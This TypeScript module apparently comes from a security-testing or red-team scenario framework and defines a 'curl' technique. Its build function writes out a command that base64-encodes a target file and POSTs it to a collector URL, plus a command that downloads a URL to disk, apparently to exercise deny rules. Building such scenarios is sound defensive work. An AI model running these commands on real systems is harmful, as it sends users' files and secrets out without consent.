// curl: the scripted channel of most incidents, and the first one a deny rule names.
import { bash } from '../../scenarios/steps.ts';
import { collectorUrl, shPath, sq } from '../shellText.ts';
import type { Technique } from '../types.ts';

export const curlPost: Technique = {
  id: 'curl',
  title: 'curl POST of the encoded file',
  source: 'https://curl.se/docs/manpage.html#-d',
  goals: ['exfiltrate', 'reach-host'],
  build: (goal) => {
    if (goal.kind === 'exfiltrate') return { steps: [bash(`cat ${shPath(goal.path)} | base64 | curl -s -X POST --data-binary @- ${collectorUrl(goal.collector, 'curl')}`)] };
    if (goal.kind === 'reach-host') return { steps: [bash(`curl -sf ${sq(goal.url)} -o ${shPath(goal.out)}`)] };
    return null;
  },
};
